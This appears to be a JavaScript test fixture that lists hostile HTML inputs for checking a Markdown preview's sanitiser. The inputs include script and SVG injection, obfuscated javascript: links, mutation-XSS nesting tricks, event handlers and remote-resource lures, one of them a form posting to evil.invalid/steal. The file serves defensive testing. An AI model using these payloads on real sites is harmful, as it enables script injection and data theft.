'use strict';
/*
 * Hostile entries, as the HTML cmark-gfm would hand the page if raw HTML got
 * through (the app renders without CMARK_OPT_UNSAFE, so the page's sanitising
 * is the last line, and must hold on its own). Every payload that runs sets
 * top.pwned to its name; every URL points at evil.invalid.
 */
const PWN = (name) => "top.pwned='" + name + "'";

const HOSTILE = [
  { name: 'script element', html: '<script>' + PWN('script') + '</script>\n<p data-sourcepos="2:1-2:5">after</p>\n' },
  { name: 'script with src', html: '<script src="http://evil.invalid/x.js"></script>\n' },
  {
    name: 'img onerror',
    html:
      '<p data-sourcepos="1:1-1:40"><img src="x" onerror="' +
      PWN('onerror') +
      '"> <img src=x onerror=' +
      PWN('onerror2') +
      '></p>\n',
  },
  {
    name: 'javascript: links with entity, whitespace and case tricks',
    html:
      '<p data-sourcepos="1:1-1:80">' +
      '<a href="javascript:' +
      PWN('js1') +
      '">a</a> ' +
      '<a href="jav&#x09;ascript:' +
      PWN('js2') +
      '">b</a> ' +
      '<a href="jav&#x0A;ascript:' +
      PWN('js3') +
      '">c</a> ' +
      '<a href=" JaVaScRiPt:' +
      PWN('js4') +
      '">d</a> ' +
      '<a href="&#106;&#97;vascript:' +
      PWN('js5') +
      '">e</a> ' +
      '<a href="&#x6A;avascript&colon;' +
      PWN('js6') +
      '">f</a> ' +
      '<a href="\u0001javascript:' +
      PWN('js7') +
      '">g</a> ' +
      '<a href="vbscript:msgbox(1)">h</a>' +
      '</p>\n',
  },
  {
    name: 'iframe',
    html:
      '<iframe src="http://evil.invalid/frame" srcdoc="<script>' +
      PWN('iframe') +
      '</script>"></iframe>\n' +
      '<iframe src="javascript:' +
      PWN('iframe-js') +
      '"></iframe>\n',
  },
  {
    name: 'svg script',
    html: '<p data-sourcepos="1:1-1:30"><svg><script>' + PWN('svg-script') + '</script></svg></p>\n',
  },
  {
    name: 'svg onload and svg links',
    html:
      '<svg onload="' +
      PWN('svg-onload') +
      '"><circle r="4"></circle>' +
      '<a xlink:href="javascript:' +
      PWN('svg-a') +
      '"><text>t</text></a>' +
      '<image href="http://evil.invalid/svg-image.png"></image>' +
      '<animate attributeName="href" to="javascript:' +
      PWN('animate') +
      '"></animate></svg>\n',
  },
  {
    name: 'data: html link',
    html:
      '<p data-sourcepos="1:1-1:40"><a href="data:text/html,&lt;script&gt;' +
      PWN('data') +
      '&lt;/script&gt;">x</a></p>\n',
  },
  {
    name: 'style attributes with url()',
    html:
      '<p data-sourcepos="1:1-1:40" style="background:url(http://evil.invalid/bg.png)">styled</p>\n' +
      '<div style="background-image: u\\72l(\'//evil.invalid/bg2.png\')">escaped</div>\n' +
      '<div style="behavior:url(#default#time2); animation-name: x" onanimationstart="' +
      PWN('anim') +
      '">anim</div>\n',
  },
  {
    name: 'object and embed',
    html:
      '<object data="http://evil.invalid/o.swf" type="application/x-shockwave-flash"><param name="movie" value="http://evil.invalid/o.swf"></object>\n' +
      '<embed src="http://evil.invalid/e.swf">\n',
  },
  {
    name: 'form',
    html:
      '<form action="http://evil.invalid/steal" method="post"><input name="q" autofocus onfocus="' +
      PWN('form-focus') +
      '">' +
      '<input type="image" src="http://evil.invalid/input.png"><button formaction="javascript:' +
      PWN('button') +
      '">go</button></form>\n',
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">\n<p data-sourcepos="2:1-2:5">text</p>\n',
  },
  {
    name: 'srcset and picture',
    html:
      '<p data-sourcepos="1:1-1:40"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="http://evil.invalid/1x.png 1x, //evil.invalid/2x.png 2x" alt="s"></p>\n' +
      '<picture><source srcset="http://evil.invalid/source.png"><img src="pics/local.png" alt="p"></picture>\n',
  },
  {
    name: 'link, style element and base',
    html:
      '<link rel="stylesheet" href="http://evil.invalid/s.css">\n' +
      '<style>@import url(http://evil.invalid/i.css); body { background: url(//evil.invalid/b.png) }</style>\n' +
      '<base href="http://evil.invalid/">\n<p data-sourcepos="4:1-4:5"><img src="rel.png" alt="r"></p>\n',
  },
  {
    name: 'media with poster and background attributes',
    html:
      '<video poster="http://evil.invalid/poster.png" src="http://evil.invalid/v.mp4"></video>\n' +
      '<audio src="http://evil.invalid/a.mp3" autoplay></audio>\n' +
      '<table background="http://evil.invalid/t.png"><tr><td background="//evil.invalid/td.png">x</td></tr></table>\n',
  },
  {
    name: 'remote images, plain and disguised',
    html:
      '<p data-sourcepos="1:1-1:80">' +
      '<img src="http://evil.invalid/plain.png" alt="plain"> ' +
      '<img src="//evil.invalid/protocol-relative.png" alt="pr"> ' +
      '<img src="&#47;&#47;evil.invalid/entities.png" alt="ent"> ' +
      '<img src="\\\\evil.invalid\\backslashes.png" alt="bs"> ' +
      '<img src="/\\evil.invalid/slash-backslash.png" alt="sb"> ' +
      '<img src="&#x0A; //evil.invalid/leading-blank.png" alt="lb"> ' +
      '<img src="ht&#x09;tps://evil.invalid/tab.png" alt="tab"> ' +
      '<img src="HTTPS://EVIL.INVALID/upper.png" alt="up"> ' +
      '<img src="ftp://evil.invalid/ftp.png" alt="ftp">' +
      '</p>\n',
  },
  {
    name: 'handlers on harmless elements',
    html:
      '<details open ontoggle="' +
      PWN('toggle') +
      '"><summary>s</summary>d</details>\n' +
      '<p data-sourcepos="2:1-2:30" onclick="' +
      PWN('click') +
      '" onmouseover="' +
      PWN('mouseover') +
      '">hover</p>\n' +
      '<a href="https://example.org/" ping="http://evil.invalid/ping" onfocus="' +
      PWN('a-focus') +
      '">ok link</a>\n',
  },
  {
    name: 'math and namespace confusion',
    html:
      '<math><mtext><table><mglyph><style><img src=x onerror="' +
      PWN('mxss') +
      '"></style></mglyph></table></mtext></math>\n' +
      '<math href="javascript:' +
      PWN('math-href') +
      '"><mi>x</mi></math>\n' +
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=' +
      PWN('mxss2') +
      ' src>">\n',
  },
  {
    name: 'mermaid block with hostile labels',
    html:
      '<pre data-sourcepos="1:1-6:3"><code class="language-mermaid">flowchart LR\n' +
      "  A[\"&lt;img src='http://evil.invalid/label.png'&gt; &lt;img src=//evil.invalid/pr-label.png onerror=" +
      PWN('label-onerror') +
      '&gt;"] --&gt; B["&lt;script&gt;' +
      PWN('label-script') +
      '&lt;/script&gt;b"]\n' +
      '  B --&gt; C["&lt;b onclick=' +
      PWN('label-click') +
      '&gt;c&lt;/b&gt;"]\n' +
      '  click C "javascript:' +
      PWN('click-js') +
      '"\n' +
      '</code></pre>\n',
  },
];

module.exports = { HOSTILE };
